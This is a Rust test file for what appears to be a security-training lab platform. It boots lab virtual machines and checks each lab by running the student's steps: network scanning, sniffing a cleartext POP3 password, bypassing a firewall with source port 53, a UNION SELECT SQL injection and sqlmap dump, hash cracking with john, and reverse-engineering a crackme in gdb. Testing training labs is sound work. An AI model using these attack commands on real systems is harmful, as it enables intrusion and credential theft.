//! The labs that come with the program, built and walked as their instructions say. That takes
//! long under software emulation, so `make test-labs` runs it by itself.
//!
//! They are built on Debian and without a desktop here. What lab04 does needs the kernel that comes
//! with a desktop, so of that one only the tools are looked at.

use crate::common;

use std::path::Path;
use std::time::{Duration, Instant};

use common::world::outside;
use common::{Run, Sandbox, guest, run, tool};
use serde_json::{Value, json};

/// Made by `make image`.
const CLOUD_IMAGE: &str = "/var/cache/cyyber/debian-12-cloud-amd64.qcow2";

/// Longer than a busy machine takes to build all of them.
const LONGEST_BUILD: Duration = Duration::from_secs(3 * 60 * 60);

/// Longer than a slow machine takes to boot one.
const PATIENCE: Duration = Duration::from_secs(300);

/// A guest of a lab, gone with its instance when it is dropped.
struct Student<'a> {
    sandbox: &'a Sandbox,
    lab: String,
    domain: String,
}

impl<'a> Student<'a> {
    /// Powers on an instance of `lab`, and waits until it runs.
    fn of(sandbox: &'a Sandbox, lab: &str) -> Student<'a> {
        let student = Student {
            sandbox,
            lab: lab.to_owned(),
            domain: format!("{lab}_user_anna"),
        };
        let mut start = sandbox.command(["instance", "start", lab, "anna"]);
        Run::of(&mut start).ok();
        let began = Instant::now();
        let state = || {
            let list = ["-o", "json", "instance", "list", "--lab", lab];
            sandbox.cyyber(list).json()["instances"][0]["state"].clone()
        };
        while state() != "running" {
            assert!(began.elapsed() < PATIENCE, "{lab} does not run");
            std::thread::sleep(Duration::from_secs(2));
        }
        student
    }

    /// What a shell of the student's prints for `script`, in the student's home directory.
    #[track_caller]
    fn types(&self, script: &str) -> String {
        let script = script.replace('\'', "'\\''");
        guest::shell(
            &self.domain,
            &format!("cd /home/student; runuser -u student -- sh -c '{script}' 2>&1"),
        )
    }

    #[track_caller]
    fn sees(&self, script: &str, wanted: &str) {
        let seen = self.types(script);
        assert!(seen.contains(wanted), "{script}\nwanted: {wanted}\n{seen}");
    }
}

impl Drop for Student<'_> {
    fn drop(&mut self) {
        let mut cleanup = self.sandbox.command(["instance", "cleanup", "--yes"]);
        let _ = cleanup.args([&*self.lab, "anna"]).output();
    }
}

/// The labs as they come, but for what a test machine lacks; their ids.
fn configure(sandbox: &Sandbox) -> Vec<String> {
    let labs = Path::new(env!("CARGO_MANIFEST_DIR")).join("labs");
    let text = std::fs::read_to_string(labs.join("labs-config.json")).unwrap();
    let mut config: Value = serde_json::from_str(&text).unwrap();
    config["defaults"] = json!({
        "image": {"url": CLOUD_IMAGE}, "disk_size": "10G", "memory_mb": 1536, "vcpus": 2,
    });
    let mut ids = Vec::new();
    for lab in config["labs"].as_array_mut().unwrap() {
        let id = lab["lab_id"].as_str().unwrap();
        let number = id.strip_prefix("lab").unwrap();
        ids.push(format!("{}{number}", sandbox.lab));
        lab["lab_id"] = json!(ids.last());
    }
    sandbox.write_config(&config.to_string());
    for entry in std::fs::read_dir(&labs).unwrap().flatten() {
        if entry.path().is_dir() {
            run(tool("cp").arg("-r").arg(entry.path()).arg(sandbox.path("")));
        }
    }
    ids
}

#[test]
#[ignore = "takes an hour: run by `make test-labs`"]
fn every_lab_works_as_its_instructions_say() {
    let sandbox = Sandbox::with_booting_guests(2);
    let labs = configure(&sandbox);
    let build = || outside(&sandbox.command(["-o", "json", "build", "--jobs", "2"]));
    let built = Run::within(LONGEST_BUILD, &mut build()).json();
    for lab in built["labs"].as_array().unwrap() {
        assert_eq!(lab["result"], "built", "{lab:#}");
    }
    for lab in Run::of(&mut build()).json()["labs"].as_array().unwrap() {
        assert_eq!(lab["result"], "unchanged", "{lab:#}");
    }
    for (lab, walk) in labs.iter().zip([
        scan_a_network as fn(&Student),
        exploit_a_shop,
        find_passwords,
        have_the_tools_of_the_air,
        read_a_program,
    ]) {
        let student = Student::of(&sandbox, lab);
        student.sees("cat /etc/motd", "Cyyber Linux");
        let health = guest::shell(
            &student.domain,
            "systemctl is-system-running --wait || systemctl --failed --quiet",
        );
        assert_eq!(health, "running\n", "{lab}");
        walk(&student);
    }
}

fn scan_a_network(student: &Student) {
    let found = |scan: &str| {
        let found = student.types(scan);
        [10, 20, 30, 66].map(|host| found.contains(&format!("10.13.37.{host}\n")))
    };
    assert_eq!(
        found("nmap -n -sn 10.13.37.0/24"),
        [true, true, true, false]
    );
    assert_eq!(found("sudo nmap -n -sn 10.13.37.0/24"), [true; 4]);
    let services = student.types("sudo nmap -n -sS -sV 10.13.37.10-40");
    for service in ["nginx 1.18.0", "Dovecot pop3d", "22/tcp"] {
        assert!(services.contains(service), "{service}\n{services}");
    }
    // The password is hers who looks for mail every quarter of a minute.
    student.sees(
        "sudo timeout 60 tcpdump -c 40 -Ani lan0 port 110",
        "PASS sunflower",
    );
    student.sees(
        "printf 'user mira\\npass sunflower\\nretr 1\\nquit\\n' | ncat -C 10.13.37.20 110",
        "flag{whoever-listens-reads-along}",
    );
    student.sees("sudo nmap -n -sS 10.13.37.66", "filtered");
    student.sees("sudo nmap -n -sS -g 53 -p- 10.13.37.66", "4711/tcp open");
    student.sees(
        "sudo ncat -s 10.13.37.1 -p 53 10.13.37.66 4711 </dev/null",
        "flag{anyone-can-choose-a-source-port}",
    );
    let routes = student.types("sudo sysctl -n net.ipv4.ip_forward");
    assert_eq!(routes, "0\n");
}

fn exploit_a_shop(student: &Student) {
    student.sees("whatweb localhost", "The little shop");
    student.sees(
        "dirb http://localhost",
        "+ http://localhost/index.php (CODE:200",
    );
    student.sees("curl -s 'http://localhost/?search=%25'", "Globe");
    student.sees("curl -s \"http://localhost/?search='\"", "Database error");
    student.sees(
        "sqlmap -u 'http://localhost/?search=Globe' --batch --level 2 --technique BU --dump",
        "29.00",
    );
    student.sees(
        "curl -sG http://localhost/ --data-urlencode \
         \"search=' UNION SELECT login, password FROM staff --\"",
        "flag{never-glue-strings-into-sql}",
    );
    let listening = student.types("ss -Hltn 'sport = :80'");
    let to_itself = |line: &str| line.contains(" 127.0.0.1:80 ") || line.contains(" [::1]:80 ");
    assert_eq!(listening.lines().filter(|line| to_itself(line)).count(), 2);
    assert_eq!(listening.lines().count(), 2, "{listening}");
}

fn find_passwords(student: &Student) {
    let list = "john --wordlist=/usr/share/john/password.lst company";
    student.types(list);
    student.sees("john --show company", "mira:sunflower");
    student.types(&format!("{list} --rules"));
    student.sees("john --show company", "tom:Dragon1");
    student.types("crunch 7 7 -t lab%%%% | john --stdin company");
    student.sees("john --show company", "3 password hashes cracked, 1 left");
    student.sees(
        "unzip -pP lab2749 box.zip",
        "flag{long-and-odd-beats-short-and-clever}",
    );
}

fn have_the_tools_of_the_air(student: &Student) {
    for tool in [
        "hostapd",
        "airodump-ng",
        "wpa_supplicant",
        "aircrack-ng",
        "hcxdumptool",
    ] {
        student.sees(&format!("sudo which {tool}"), tool);
    }
    // It looks for what it calls before it looks for radios.
    student.sees("sudo airmon-ng", "Chipset");
    student.sees("cat lab04/access-point.conf", "ssid=classroom");
    student.sees("cat lab04/visitor.conf", "psk=\"sunshine\"");
}

fn read_a_program(student: &Student) {
    student.sees("file crackme", "stripped");
    student.sees("checksec --file=crackme", "PIE enabled");
    student.sees("objdump -d -M intel crackme", "strcmp@plt");
    student.sees("strace ./crackme x || true", "write(1, \"No.");
    let compared = student.types("ltrace ./crackme x || true");
    let secret = compared
        .split("strcmp(\"x\", \"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap_or_else(|| panic!("no comparison is seen: {compared}"));
    let strings = student.types("strings crackme");
    assert!(!strings.contains(secret), "{strings}");
    let debugger = "gdb -batch -ex 'set breakpoint pending on' -ex 'break strcmp' -ex 'run x' \
                    -ex 'info registers' -ex 'x/s $rdi' -ex 'x/s $rsi' ./crackme";
    student.sees(debugger, secret);
    student.sees(
        &format!("./crackme '{secret}'"),
        "Yes. You read the machine's mind.",
    );
    assert_eq!(student.types("sudo find / -xdev -name crackme.c"), "");
}
